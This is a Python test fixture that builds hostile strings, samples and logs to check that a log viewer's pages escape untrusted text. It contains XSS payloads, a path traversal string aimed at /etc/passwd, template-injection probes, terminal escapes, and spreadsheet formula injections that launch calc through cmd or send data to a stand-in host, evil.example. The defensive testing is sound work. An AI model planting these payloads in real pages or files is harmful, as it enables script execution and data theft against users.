"""Hostile texts for pages: what models, data sets, names and logs may contain, and what pages must neutralise."""

from __future__ import annotations

from typing import Any

ELSEWHERE = "evil.example"
"""A host that no page may request. The test browser resolves it to this computer."""

HOSTILE_TEXTS = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "single quote": "' autofocus onfocus=alert(1) x='",
    "closing tags": "</textarea></title></style></script><svg onload=alert(1)>",
    "comment": "--><!--<script>alert(1)</script>",
    "javascript": "javascript:alert(1)",
    "path": "../../../etc/passwd",
    "dots": "..",
    "template": "{{ 7 * 7 }} {% include 'x' %} ${7*7} #{7*7} %s %(name)s {0}",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt; &#x202e;",
    "markdown": f"[click](http://{ELSEWHERE}/) ![x](http://{ELSEWHERE}/pixel.png) <http://{ELSEWHERE}/>",
    "bidi": "invoice \u202etxt.exe\u202c \u2066isolate\u2069",
    "zero width": "pass\u200bword\u2060\ufeff\u00ad",
    "tag characters": "visible" + "".join(chr(0xE0000 + ord(letter)) for letter in "hidden"),
    "escape": f"\x1b[31mred\x1b[0m \x1b[2J\x1b]0;title\x07 \x1b]8;;http://{ELSEWHERE}/\x07link\x1b]8;;\x07",
    "c1": "\x9b31m csi \x85 next line \x7f delete \u2028 line \u2029 paragraph",
    "nul": "before\x00after",
    "surrogate": "lone \ud800 surrogate",
    "combining": "e" + "\u0301" * 300 + " stack",
    "long word": "x" * 5_000,
    "emoji": "👩\u200d👩\u200d👧 ✓ passed ✕ failed",
    "formula": f'=HYPERLINK("http://{ELSEWHERE}/?"&A1,"x")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}
"""By what they try."""

COMBINING_STACK = "a" + "\u0301" * 100_000

FORMULAS = ("=", "+", "-", "@", "\t", "\r")
"""Beginnings of cells that spreadsheets take for formulas."""


def storable(text: str) -> str:
    """The text as a JSON request may hold it: surrogates are no Unicode."""
    return text.encode("utf-8", "replace").decode()


def label(text: str, length: int = 128) -> str:
    """The text as a tag: 1 to 128 characters without comma and bar."""
    return storable(text).replace(",", ";").replace("|", "/")[:length]


def hostile_samples() -> list[dict[str, Any]]:
    """A sample for each text, which is its id, its texts, its group, and the names and values of its metadata."""
    samples: list[dict[str, Any]] = []
    for number, (name, text) in enumerate(HOSTILE_TEXTS.items()):
        short = storable(text)[:200]
        sample: dict[str, Any] = {
            "sample_id": short,
            "metrics": {"accuracy": number % 2, short: number / 10},
            "input": text,
            "output": f"{name}: {text}",
            "target": text,
            "answer": text,
            "explanation": text,
            "group": short,
            "tags": [label(text)],
            "metadata": {"topic": short, short: text, "nested": {"list": [text, None, True, 1.5]}},
            "messages": [
                {"role": "system", "content": text},
                {"role": short, "content": [{"type": "text", "text": text}]},
                {"role": "assistant", "content": None, "tool_calls": [{"function": text}]},
            ],
        }
        if number % 5 == 4:
            sample |= {"error": text, "error_kind": "model"}
        samples.append(sample)
    samples.append({"sample_id": "stack", "input": COMBINING_STACK, "output": "x" * 1_000_000, "target": ""})
    deep: Any = "bottom"
    for _ in range(28):
        deep = {"deeper": [deep]}
    samples.append({"sample_id": "deep", "input": deep, "output": {"a": 1}, "target": ["x", 1, None]})
    return samples


def hostile_log() -> bytes:
    """A log with all texts, bytes that are no UTF-8, progress bars, repeated lines and a line of a megabyte."""
    lines = [f"{name}: {text}" for name, text in HOSTILE_TEXTS.items()]
    lines += [
        f"\x1b[{code}mSGR {code}\x1b[0m" for code in (1, 4, 7, 31, 42, 91, 107, "38;5;200", "48;2;1;2;3")
    ]
    lines.append("\r".join(f"{percent} %|{'#' * (percent // 10)}" for percent in range(0, 101, 2)))
    lines += ["the same line"] * 20
    lines += ["y" * 1_000_000, COMBINING_STACK[:20_000]]
    text = "\n".join(lines).encode("utf-8", "surrogatepass")
    return text + b"\nbytes \xff\xfe\x80 that are no UTF-8\nno line feed at the end"
